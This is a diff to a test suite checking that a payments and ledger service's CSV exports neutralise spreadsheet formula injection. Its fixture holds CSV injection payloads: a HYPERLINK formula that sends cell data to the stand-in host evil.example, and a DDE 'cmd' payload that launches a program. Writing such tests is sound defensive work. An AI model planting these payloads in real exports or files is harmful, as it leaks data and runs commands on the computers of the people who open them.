@@ -15,33 +15,51 @@ describe('CSV exports are safe to open in a spreadsheet', () => {
   const ctx = useTestApp();
   const EVIL = {
     description: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    remarks: '+1+cmd|\' /C calc\'!A0',
+    remarks: "+1+cmd|' /C calc'!A0",
     metadata: { note: '@SUM(A1:A9)' },
   };
 
   beforeAll(async () => {
     const billing = (await ctx.app.api('POST', '/v1/api-keys', { body: { name: '-billing', scopes: ['loads:write'] } })).body.key as string;
     const made = await ctx.app.api('POST', '/v1/card-loads', {
-      key: billing, headers: { 'idempotency-key': 'csv-1' },
+      key: billing,
+      headers: { 'idempotency-key': 'csv-1' },
       body: { enKashCardId: 'EKCCSV0001', amount: '12.50', cardAccountId: 'CACSV', ...EVIL },
     });
     expect(made.status).toBe(201);
     // A reversal gives the card history a negative amount, which must stay a number.
     await ctx.app.app.get(SettlementService).settle(made.body.id, 'reversed', { reason: '@reason', actor: 'test' });
-    expect((await ctx.app.api('POST', '/v1/accounts', {
-      body: { code: 'external:csvfund', currency: 'INR', normalSide: 'debit', name: '\t=1+1' },
-    })).status).toBe(201);
-    expect((await ctx.app.api('POST', '/v1/journal', {
-      body: { description: '-2+3+cmd', entries: [
-        { accountCode: 'external:csvfund', direction: 'debit', amount: '100.00' },
-        { accountCode: 'parent:CACSV', direction: 'credit', amount: '100.00' },
-      ] },
-    })).status).toBe(201);
+    expect(
+      (
+        await ctx.app.api('POST', '/v1/accounts', {
+          body: { code: 'external:csvfund', currency: 'INR', normalSide: 'debit', name: '\t=1+1' },
+        })
+      ).status,
+    ).toBe(201);
+    expect(
+      (
+        await ctx.app.api('POST', '/v1/journal', {
+          body: {
+            description: '-2+3+cmd',
+            entries: [
+              { accountCode: 'external:csvfund', direction: 'debit', amount: '100.00' },
+              { accountCode: 'parent:CACSV', direction: 'credit', amount: '100.00' },
+            ],
+          },
+        })
+      ).status,
+    ).toBe(201);
   });
 
   const EXPORTS = [
-    '/v1/card-loads', '/v1/cards/EKCCSV0001/history', '/v1/accounts', '/v1/accounts/parent:CACSV/entries',
-    '/v1/accounts/card:EKCCSV0001/entries', '/v1/journal', '/v1/reports/trial-balance', '/v1/reports/reconciliation',
+    '/v1/card-loads',
+    '/v1/cards/EKCCSV0001/history',
+    '/v1/accounts',
+    '/v1/accounts/parent:CACSV/entries',
+    '/v1/accounts/card:EKCCSV0001/entries',
+    '/v1/journal',
+    '/v1/reports/trial-balance',
+    '/v1/reports/reconciliation',
   ];
 
   it.each(EXPORTS)('should neutralise every formula-like cell of %s', async (path) => {
@@ -56,8 +74,11 @@ describe('CSV exports are safe to open in a spreadsheet', () => {
     const loads = parseCsv((await ctx.app.api('GET', '/v1/card-loads?format=csv')).text);
     const [header, row] = loads;
     const cell = (name: string) => row[header.indexOf(name)];
-    expect([cell('description'), cell('remarks'), cell('metadata')])
-      .toEqual([`'${EVIL.description}`, `'${EVIL.remarks}`, JSON.stringify(EVIL.metadata)]);
+    expect([cell('description'), cell('remarks'), cell('metadata')]).toEqual([
+      `'${EVIL.description}`,
+      `'${EVIL.remarks}`,
+      JSON.stringify(EVIL.metadata),
+    ]);
     const journal = (await ctx.app.api('GET', '/v1/journal?format=csv')).text;
     expect(journal).toContain(`'-2+3+cmd`);
     expect((await ctx.app.api('GET', '/v1/accounts?format=csv')).text).toContain(`'\t=1+1`);
